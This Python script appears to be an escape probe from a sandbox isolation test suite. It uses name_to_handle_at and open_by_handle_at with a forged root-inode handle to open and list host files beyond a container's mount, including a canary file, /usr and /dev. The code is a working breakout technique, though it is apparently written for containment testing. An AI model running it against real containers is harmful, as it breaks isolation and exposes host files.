# Opens a file of the host by its name within the file system, past every directory above it.
# control: outside if it can
import ctypes
import os

from attack import AT_FDCWD, attempt, canary, given, syscall


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("type", ctypes.c_int), ("bytes", ctypes.c_ubyte * 128)]


def opened(place):
    """The input files lie in the same file system as the canary."""
    known = given("host.handle")
    if known is None:
        return None
    name = bytes.fromhex(known["bytes"])
    handle = Handle(len(name), known["type"])
    ctypes.memmove(handle.bytes, name, len(name))
    mount = os.open(place, os.O_RDONLY | os.O_DIRECTORY)
    return canary(os.read(syscall("open_by_handle_at", mount, ctypes.byref(handle), os.O_RDONLY), 4096))


def root_of(place):
    """The root of an ext4 or xfs file system has a number that everybody knows."""
    handle = Handle(8, 1)
    ctypes.memmove(handle.bytes, (2).to_bytes(4, "little") + bytes(4), 8)
    mount = os.open(place, os.O_RDONLY | os.O_DIRECTORY)
    return os.listdir(syscall("open_by_handle_at", mount, ctypes.byref(handle), os.O_RDONLY | os.O_DIRECTORY))


def named():
    handle, mount = Handle(size=128), ctypes.c_int()
    syscall("name_to_handle_at", AT_FDCWD, b"/", ctypes.byref(handle), ctypes.byref(mount), 0)
    return "named"


uploads = os.path.dirname(given("upload"))
attempt(
    ("the canary", lambda: opened(uploads)),
    ("the root", lambda: root_of(uploads)),
    ("below /usr", lambda: opened("/usr")),
    ("a device's", lambda: opened("/dev")),
    ("named", named),
    also=("ESTALE", "EOPNOTSUPP"),
)
